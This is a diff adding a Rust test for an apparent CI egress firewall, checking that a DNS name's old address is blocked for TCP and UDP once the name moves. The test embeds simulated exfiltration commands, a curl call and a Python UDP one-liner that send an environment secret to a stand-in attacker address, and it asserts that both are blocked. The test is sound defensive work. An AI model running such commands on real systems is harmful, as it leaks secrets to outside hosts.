@@ -331,3 +331,55 @@ fn an_address_closes_when_its_name_has_expired_and_nothing_uses_it() -> Result<(
     assert_gapless(&events);
     Ok(())
 }
+
+/// S3 with a name that has moved: while the job goes on using it at its new address, the old one closes, for TCP and for
+/// UDP, whose packets need no connection. The twin: the new address.
+#[test]
+fn an_address_that_its_name_has_left_closes() -> Result<()> {
+    const OLD: &str = "203.0.113.66";
+    const NEW: &str = "198.51.100.10";
+    let world = World::builder().build()?;
+    world.write_configuration("[dns]\ngrant-floor-seconds = 1\ngrant-grace-seconds = 1\n")?;
+    world.dns().addresses_with_ttl("tenant.test", 1, &[OLD])?;
+    let policy = "name: tenants\negress-policy: block\nallowed-endpoints: ['tenant.test:443', 'udp://tenant.test:443']\nattach:\n  - repository: octo/hello\n";
+    let gate = Gate::up(world, &[("tenants", policy)])?;
+    let mut job = Puppet::start(&gate, 0, "octo/hello")?;
+    let datagram = |what: &str| {
+        format!(
+            "python3 -c 'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto({what}, (\"{OLD}\", 443))'"
+        )
+    };
+    let first = job.run(&format!(
+        "curl -ksS --max-time 5 -o /dev/null https://tenant.test/ && {}",
+        datagram("b\"first\"")
+    ))?;
+    ensure!(first.succeeded(), "{first:?}\n{}", gate.monitor.log());
+
+    gate.world.dns().addresses_with_ttl("tenant.test", 1, &[NEW])?;
+    let rules = || gate.world.runner_network().tool("nft", &["list", "ruleset"], None);
+    wait_until("the old address to close while the name is used", || {
+        let used = job.run("curl -ksS --max-time 5 -o /dev/null https://tenant.test/");
+        used.is_ok_and(|used| used.succeeded())
+            && rules().is_ok_and(|rules| !rules.contains(OLD) && rules.contains(NEW))
+    })?;
+    let late = job.run(&format!("curl -ksS --max-time 2 https://{OLD}/$S"))?;
+    ensure!(!late.succeeded(), "{late:?}");
+    job.run(&datagram("os.environ[\"S\"].encode()"))?;
+    let twin = job.run("curl -ksS --max-time 5 -o /dev/null https://tenant.test/")?;
+    ensure!(twin.succeeded(), "{twin:?}");
+    job.finish()?;
+    gate.monitor.wait_until_idle()?;
+    let events = gate.last_events()?;
+    for protocol in ["tcp", "udp"] {
+        let blocked = network(&events).any(|event| {
+            event.verdict == Verdict::Blocked
+                && event.protocol == protocol
+                && event.address.to_string() == OLD
+                && event.process.is_some()
+        });
+        ensure!(blocked, "{protocol}: {events:#?}");
+    }
+    ensure!(!gate.world.attacker().saw(&gate.canary)?, "the secret reached the new tenant");
+    assert_gapless(&events);
+    Ok(())
+}
